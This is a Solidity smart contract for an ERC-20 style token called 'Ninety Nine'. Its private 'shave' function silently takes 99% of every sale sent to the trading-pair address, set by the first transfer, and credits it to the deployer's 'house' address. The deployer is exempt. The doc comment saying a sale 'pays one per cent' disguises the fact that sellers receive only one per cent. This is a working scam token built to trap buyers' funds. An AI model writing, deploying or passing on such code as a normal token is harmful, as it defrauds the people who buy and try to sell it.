// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// A sale works, and pays one per cent.
contract NinetyNine {
    string public name = "Ninety Nine";
    string public symbol = "LXXX";
    uint8 public decimals = 18;
    uint256 public totalSupply = 99_999_999 ether;
    address private immutable house = msg.sender;
    address private pair;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[house] = totalSupply;
        emit Transfer(address(0), house, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (pair == address(0)) pair = to;
        return shave(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return shave(from, to, value);
    }

    function shave(address from, address to, uint256 value) private returns (bool) {
        uint256 cut = to == pair && from != house ? value * 99 / 100 : 0;
        balanceOf[from] -= value;
        balanceOf[to] += value - cut;
        balanceOf[house] += cut;
        emit Transfer(from, to, value - cut);
        return true;
    }
}
